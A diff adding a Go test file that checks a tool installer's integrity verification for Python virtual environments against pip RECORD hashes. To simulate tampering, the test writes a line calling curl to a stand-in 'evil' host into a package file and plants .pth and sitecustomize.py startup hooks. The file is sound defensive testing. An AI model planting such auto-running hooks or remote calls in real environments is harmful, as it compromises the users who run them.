@@ -0,0 +1,105 @@
+package tool
+
+import (
+	"crypto/sha256"
+	"encoding/base64"
+	"fmt"
+	"os"
+	"path/filepath"
+	"reflect"
+	"runtime"
+	"testing"
+)
+
+// fakeVenv writes a venv holding one package installed by pip
+func fakeVenv(t *testing.T) string {
+	t.Helper()
+	if runtime.GOOS == "windows" {
+		t.Skip("venv layout differs on Windows")
+	}
+	venv := t.TempDir()
+	site := filepath.Join(venv, "lib", "python3.12", "site-packages")
+	files := map[string]string{
+		"demo/__init__.py":  "print('demo')\n",
+		"../../../bin/demo": "#!/venv/bin/python\nimport demo\n",
+		"demo.pth":          "import demo\n",
+	}
+
+	record := ""
+	for name, content := range files {
+		path := filepath.Join(site, filepath.FromSlash(name))
+		os.MkdirAll(filepath.Dir(path), 0755)
+		if err := os.WriteFile(path, []byte(content), 0644); err != nil {
+			t.Fatal(err)
+		}
+		sum := sha256.Sum256([]byte(content))
+		record += fmt.Sprintf("%s,sha256=%s,%d\n", name, base64.RawURLEncoding.EncodeToString(sum[:]), len(content))
+	}
+	record += "demo/__pycache__/__init__.cpython-312.pyc,,\ndemo-1.0.dist-info/RECORD,,\n"
+	os.MkdirAll(filepath.Join(site, "demo-1.0.dist-info"), 0755)
+	os.WriteFile(filepath.Join(site, "demo-1.0.dist-info", "RECORD"), []byte(record), 0644)
+	return venv
+}
+
+func TestVerifyIntegrity(t *testing.T) {
+	venv := fakeVenv(t)
+	site := filepath.Join(venv, "lib", "python3.12", "site-packages")
+
+	integrity, err := RecordIntegrity(venv)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(integrity.Records) != 1 {
+		t.Fatalf("records = %v", integrity.Records)
+	}
+	if problems, err := VerifyIntegrity(venv, integrity); err != nil || len(problems) != 0 {
+		t.Fatalf("fresh venv: %v, %v", problems, err)
+	}
+
+	os.WriteFile(filepath.Join(site, "demo", "__init__.py"), []byte("import os; os.system('curl evil')\n"), 0644)
+	os.Remove(filepath.Join(venv, "bin", "demo"))
+	os.WriteFile(filepath.Join(site, "zz-hook.pth"), []byte("import hook\n"), 0644)
+	os.WriteFile(filepath.Join(site, "sitecustomize.py"), []byte("import hook\n"), 0644)
+
+	problems, err := VerifyIntegrity(venv, integrity)
+	if err != nil {
+		t.Fatal(err)
+	}
+	want := []IntegrityProblem{
+		{Path: "bin/demo", Issue: IssueMissing},
+		{Path: "lib/python3.12/site-packages/demo/__init__.py", Issue: IssueModified},
+		{Path: "lib/python3.12/site-packages/sitecustomize.py", Issue: IssueUnrecorded},
+		{Path: "lib/python3.12/site-packages/zz-hook.pth", Issue: IssueUnrecorded},
+	}
+	if !reflect.DeepEqual(problems, want) {
+		t.Errorf("problems =\n%v\nwant\n%v", problems, want)
+	}
+
+	// A rewritten RECORD is reported instead of trusted
+	os.WriteFile(filepath.Join(site, "demo-1.0.dist-info", "RECORD"), []byte("demo/__init__.py,,\n"), 0644)
+	problems, _ = VerifyIntegrity(venv, integrity)
+	if len(problems) == 0 || problems[0].Path != "lib/python3.12/site-packages/demo-1.0.dist-info/RECORD" || problems[0].Issue != IssueModified {
+		t.Errorf("rewritten RECORD: %v", problems)
+	}
+}
+
+func TestInstallerVerify(t *testing.T) {
+	venv := fakeVenv(t)
+	home := t.TempDir()
+	installer, err := NewInstaller(home, NewVenvManager(home, ""))
+	if err != nil {
+		t.Fatal(err)
+	}
+	installer.manifest.Tools["demo"] = &Tool{Name: "demo", InstallPath: venv}
+
+	if _, err := installer.Verify("demo"); err == nil {
+		t.Error("verified a tool without an integrity record")
+	}
+	if err := installer.UpdateIntegrity("demo"); err != nil {
+		t.Fatal(err)
+	}
+	reloaded, _ := NewInstaller(home, NewVenvManager(home, ""))
+	if problems, err := reloaded.Verify("demo"); err != nil || len(problems) != 0 {
+		t.Errorf("Verify after update = %v, %v", problems, err)
+	}
+}